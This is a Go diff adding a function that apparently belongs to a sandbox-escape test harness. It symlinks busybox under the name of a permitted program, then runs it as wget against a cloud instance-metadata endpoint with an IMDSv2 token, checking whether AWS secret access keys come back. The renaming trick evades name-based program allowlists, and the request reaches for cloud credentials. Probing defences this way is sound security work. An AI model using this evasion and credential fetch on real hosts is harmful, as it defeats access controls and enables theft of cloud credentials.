@@ -137,6 +137,38 @@ func curled(program string, before ...string) error {
 	return nil
 }
 
+// applet runs a program that is many, by a name of one's own choice.
+func applet([]string) error {
+	busybox, err := exec.LookPath("busybox")
+	if err != nil {
+		return fmt.Errorf("%w: %w", errUnavailable, err)
+	}
+	dir, err := os.MkdirTemp("", "applet")
+	if err != nil {
+		return err
+	}
+	defer os.RemoveAll(dir)
+	name := filepath.Join(dir, filepath.Base(granted()))
+	if err := os.Symlink(busybox, name); err != nil {
+		return err
+	}
+	cmd := exec.Command(name, "-q", "-O", "-", "-U", os.Getenv(ask.Name), "--header", "X-aws-ec2-metadata-token: "+os.Getenv(ask.Token), ask.URL)
+	cmd.Args[0] = "wget"
+	var stderr bytes.Buffer
+	cmd.Stderr = &stderr
+	ready()
+	out, err := cmd.Output()
+	a := ask.Answer{Status: 200, Secret: bytes.Contains(out, []byte("SecretAccessKey"))}
+	if err != nil {
+		a = ask.Answer{Err: fmt.Errorf("%w: %s", err, bytes.TrimSpace(stderr.Bytes()))}
+		if bytes.Contains(stderr.Bytes(), []byte(" 403 ")) {
+			a = ask.Answer{Status: 403}
+		}
+	}
+	a.Tell()
+	return nil
+}
+
 // loader has the dynamic loader run that curl.
 func loader(args []string) error {
 	f, err := elf.Open(args[0])
